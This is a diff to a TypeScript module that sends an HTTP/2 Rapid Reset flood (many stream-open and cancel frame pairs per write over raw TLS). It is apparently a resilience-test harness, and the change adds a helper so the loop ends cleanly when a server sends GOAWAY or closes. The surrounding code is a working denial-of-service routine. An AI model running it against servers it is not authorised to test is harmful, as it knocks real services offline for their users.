@@ -2,7 +2,7 @@
 // many pairs per write, as attack tools send them. node:http2 cannot be used for this: its nghttp2
 // never sends a stream it was told to cancel before the HEADERS went out.
 import { once } from 'node:events'
-import { connect as tlsConnect } from 'node:tls'
+import { connect as tlsConnect, type TLSSocket } from 'node:tls'
 
 const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1')
 
@@ -19,6 +19,21 @@ function frame (type: number, flags: number, streamId: number, payload: Buffer):
 function headerBlock (path: string, authority: string): Buffer {
   const literal = (nameIndex: number, value: string): Buffer => Buffer.concat([Buffer.from([nameIndex, value.length]), Buffer.from(value, 'latin1')])
   return Buffer.concat([Buffer.from([0x82, 0x87]), literal(0x04, path), literal(0x01, authority)])
+}
+
+/** Resolves once `socket` drained, closed or failed (whichever comes first). */
+async function writable (socket: TLSSocket): Promise<void> {
+  await new Promise<void>(resolve => {
+    const done = (): void => {
+      socket.off('drain', done)
+      socket.off('close', done)
+      socket.off('error', done)
+      resolve()
+    }
+    socket.once('drain', done)
+    socket.once('close', done)
+    socket.once('error', done)
+  })
 }
 
 export interface RapidResetResult {
@@ -83,7 +98,9 @@ export async function rapidReset (opts: {
       id += 2
       result.sent++
     }
-    if (!socket.write(Buffer.concat(frames))) await Promise.race([once(socket, 'drain'), once(socket, 'close')])
+    // Not events.once: it rejects on 'error', and a server that sent GOAWAY and closed while this
+    // write waited for room makes it fail with EPIPE — that is the end of the attack, not a failure.
+    if (!socket.write(Buffer.concat(frames))) await writable(socket)
     await new Promise(resolve => setImmediate(resolve))
   }
   // A loaded server may still be reading what was sent: give its GOAWAY (or close) a bounded moment
